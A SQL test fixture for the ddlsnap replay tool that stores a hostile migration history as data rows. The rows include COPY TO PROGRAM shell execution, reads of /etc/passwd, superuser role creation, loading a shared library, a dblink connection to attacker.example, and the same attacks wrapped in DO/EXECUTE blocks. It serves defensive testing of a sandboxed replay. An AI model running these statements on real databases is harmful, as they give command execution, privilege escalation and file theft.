-- testdata/cases/hostile.sql: a history written by someone who wants ddlsnap to reach beyond
-- the shadow database, plus rows that are simply broken. Loaded into a SQL_ASCII database
-- (so that a row can hold bytes that are not UTF-8) with psql -v pwned=FILE, where FILE is a
-- path that COPY ... TO PROGRAM would create (tests/integration/hostile.sh).
--
-- Hostile rows are INSERTed into pggit.history, never run: this file must not do what it
-- records. Their plain DDL parts are also run here with pgGit's triggers off, so the live
-- schema is what an honest replay gives and verify's drift check can pass.
--
-- Expected (hostile.sh checks): every refused statement is named with its history id and
-- never executed; the changes with a syntax error, no sql_executed, bytes that are not UTF-8,
-- and the DO blocks that try the same things through EXECUTE (the replay role stops them)
-- fail and are recorded; every other change commits.

-- hostile(sql, at, by[, name]): one row. With a name, as pgGit records a change to table
-- public.<name>; without, filed under an object with no schema, as a hand-written row would
-- be (verify's meaning check leaves those alone).
CREATE FUNCTION pg_temp.hostile(sql text, at timestamp, by text, name text DEFAULT NULL)
RETURNS void LANGUAGE sql AS $$
	WITH o AS (
		INSERT INTO pggit.objects (object_type, schema_name, object_name)
		VALUES ('TABLE', CASE WHEN name IS NOT NULL THEN 'public' END,
		        coalesce(name, 'hostile row ' || (SELECT count(*) FROM pggit.history)))
		ON CONFLICT (object_type, schema_name, object_name, branch_name)
		DO UPDATE SET updated_at = excluded.updated_at
		RETURNING id
	)
	INSERT INTO pggit.history (object_id, change_type, change_description, sql_executed,
	                           created_at, created_by)
	SELECT o.id, 'CREATE', NULL, sql, at, by FROM o;
$$;

-- 1. an honest start, recorded by the fixture
SET pggit_fixture.clock = '2024-08-01 09:00:00';
SET pggit_fixture."user" = 'alice';
CREATE TABLE accounts (id integer PRIMARY KEY, name text NOT NULL);

-- 2. roles, databases, tablespaces, ALTER SYSTEM (each a change of its own)
SELECT pg_temp.hostile('CREATE ROLE ddlsnap_hostile_role SUPERUSER LOGIN PASSWORD ''x''',
	'2024-08-02 09:00:00', 'mallory');
SELECT pg_temp.hostile('GRANT pg_read_server_files, pg_execute_server_program TO CURRENT_USER',
	'2024-08-02 09:01:00', 'mallory');
SELECT pg_temp.hostile('ALTER ROLE CURRENT_USER SUPERUSER', '2024-08-02 09:02:00', 'mallory');
SELECT pg_temp.hostile('CREATE DATABASE ddlsnap_hostile_db', '2024-08-02 09:03:00', 'mallory');
SELECT pg_temp.hostile('CREATE TABLESPACE ddlsnap_hostile_ts LOCATION ''/tmp''',
	'2024-08-02 09:04:00', 'mallory');
SELECT pg_temp.hostile('ALTER SYSTEM SET work_mem = ''1234kB''', '2024-08-02 09:05:00', 'mallory');

-- 3. programs, server files, libraries, large objects, file functions
SELECT pg_temp.hostile(format('COPY (SELECT 1) TO PROGRAM %L', 'touch ' || :'pwned'),
	'2024-08-03 09:00:00', 'mallory');
SELECT pg_temp.hostile('COPY accounts FROM ''/etc/passwd''', '2024-08-03 09:01:00', 'mallory');
SELECT pg_temp.hostile(format('COPY accounts TO %L', :'pwned'), '2024-08-03 09:02:00', 'mallory');
SELECT pg_temp.hostile('LOAD ''/tmp/ddlsnap_hostile.so''', '2024-08-03 09:03:00', 'mallory');
SELECT pg_temp.hostile(format('SELECT lo_export(lo_import(''/etc/passwd''), %L)', :'pwned'),
	'2024-08-03 09:04:00', 'mallory');
SELECT pg_temp.hostile('CREATE TABLE leak (x text DEFAULT pg_read_file(''/etc/passwd''))',
	'2024-08-03 09:05:00', 'mallory', 'leak');
SELECT pg_temp.hostile('CREATE VIEW leak_dir AS SELECT * FROM pg_ls_dir(''.'') AS f',
	'2024-08-03 09:06:00', 'mallory', 'leak_dir');

-- 4. other servers, extensions, event triggers, languages, the server itself
SELECT pg_temp.hostile('CREATE EXTENSION dblink', '2024-08-04 09:00:00', 'mallory');
SELECT pg_temp.hostile('SELECT dblink_connect(''host=attacker.example dbname=x'')',
	'2024-08-04 09:01:00', 'mallory');
SELECT pg_temp.hostile('CREATE USER MAPPING FOR PUBLIC SERVER s OPTIONS (password ''x'')',
	'2024-08-04 09:02:00', 'mallory');
SELECT pg_temp.hostile('CREATE EXTENSION file_fdw', '2024-08-04 09:03:00', 'mallory');
SELECT pg_temp.hostile('CREATE EVENT TRIGGER ddlsnap_hostile_et ON ddl_command_start'
	' EXECUTE FUNCTION pg_catalog.pg_reload_conf()', '2024-08-04 09:04:00', 'mallory');
SELECT pg_temp.hostile('CREATE LANGUAGE plperlu', '2024-08-04 09:05:00', 'mallory');
SELECT pg_temp.hostile('SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
	'2024-08-04 09:06:00', 'mallory');
SELECT pg_temp.hostile('SELECT set_config(''session_replication_role'', ''replica'', false)',
	'2024-08-04 09:07:00', 'mallory');

-- 5. one migration string mixing refused statements with schema work: statements 2 and 4
--    are refused, 1 and 3 run, the owner change (5) is skipped and counted
SELECT pg_temp.hostile(E'CREATE TABLE ledger (id integer PRIMARY KEY);\n'
	|| E'SET ROLE postgres;\n'
	|| E'ALTER TABLE ledger ADD COLUMN amount numeric;\n'
	|| E'CREATE ROLE ddlsnap_hostile_role2;\n'
	|| E'ALTER TABLE ledger OWNER TO postgres;\n',
	'2024-08-05 09:00:00', 'mallory', 'ledger');
ALTER EVENT TRIGGER pggit_ddl_trigger DISABLE;
ALTER EVENT TRIGGER pggit_drop_trigger DISABLE;
CREATE TABLE ledger (id integer PRIMARY KEY, amount numeric);
ALTER EVENT TRIGGER pggit_ddl_trigger ENABLE;
ALTER EVENT TRIGGER pggit_drop_trigger ENABLE;

-- 6. the same through EXECUTE, which no parse of the text can see: the replay role's
--    missing rights stop them, and each change fails
SELECT pg_temp.hostile(format(
	'DO $x$ BEGIN EXECUTE %L; END $x$', format('COPY (SELECT 1) TO PROGRAM %L', 'touch ' || :'pwned')),
	'2024-08-06 09:00:00', 'mallory');
SELECT pg_temp.hostile(
	'DO $x$ BEGIN EXECUTE ''CREATE ROLE ddlsnap_hostile_role3 SUPERUSER''; END $x$',
	'2024-08-06 09:01:00', 'mallory');
SELECT pg_temp.hostile(E'CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql AS '
	|| E'$x$ BEGIN RETURN pg_read_file(''/etc/passwd''); END $x$;\nSELECT peek();',
	'2024-08-06 09:02:00', 'mallory', 'peek');

-- 7. broken rows: a syntax error, NULL fields, bytes that are not UTF-8, a 10 MB statement
SELECT pg_temp.hostile('CREATE TABLE (', '2024-08-07 09:00:00', 'bob');
SELECT pg_temp.hostile(NULL, '2024-08-07 09:01:00', 'bob');
SELECT pg_temp.hostile('CREATE TABLE no_author (id integer)', '2024-08-07 09:02:00', NULL, 'no_author');
SELECT pg_temp.hostile(E'CREATE TABLE bad_bytes_\xff\xfe (id integer)', '2024-08-07 09:03:00',
	E'eve\xff', 'bad_bytes');
SELECT pg_temp.hostile('CREATE TABLE big (id integer) /* ' || repeat('x', 10 * 1024 * 1024)
	|| ' */', '2024-08-07 09:04:00', 'bob', 'big');
SELECT pg_temp.hostile('CREATE TABLE no_time (id integer)', NULL, 'bob', 'no_time');
ALTER EVENT TRIGGER pggit_ddl_trigger DISABLE;
ALTER EVENT TRIGGER pggit_drop_trigger DISABLE;
CREATE TABLE no_author (id integer);
CREATE TABLE big (id integer);
CREATE TABLE no_time (id integer);
ALTER EVENT TRIGGER pggit_ddl_trigger ENABLE;
ALTER EVENT TRIGGER pggit_drop_trigger ENABLE;

-- 8. awkward names, recorded by the fixture: quotes, '/', '..', '.git', and identifiers of 63
--    bytes of 3-byte characters (the second one 69 bytes, cut to 63 by PostgreSQL)
SET pggit_fixture.clock = '2024-08-08 09:00:00';
CREATE TABLE ".." (id integer);
SET pggit_fixture.clock = '2024-08-08 09:01:00';
CREATE TABLE ".git" (id integer);
SET pggit_fixture.clock = '2024-08-08 09:02:00';
CREATE TABLE "a/b" ("it's ""quoted""" integer);
SET pggit_fixture.clock = '2024-08-08 09:03:00';
CREATE TABLE 顧客注文明細履歴管理台帳集計結果一覧表示画 (id integer);
SET pggit_fixture.clock = '2024-08-08 09:04:00';
CREATE TABLE 表示画面用顧客注文明細履歴管理台帳集計結果一覧 (id integer);
